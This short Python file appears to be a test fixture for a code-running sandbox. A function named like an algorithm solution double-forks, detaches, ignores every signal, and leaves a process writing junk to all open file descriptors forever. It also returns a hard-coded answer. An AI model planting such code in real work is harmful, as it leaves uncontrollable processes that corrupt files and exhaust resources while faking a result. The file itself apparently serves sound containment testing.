# expect: answered, exited 0
# Forks twice, ignores all signals, and writes to whatever is there for as long as it lives.
import os
import signal


def k_frequent(nums, k):
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        if os.fork() == 0:
            while True:
                for fd in range(256):
                    try:
                        os.write(fd, b"A[1]")
                    except OSError:
                        pass
        os._exit(0)
    return [5]
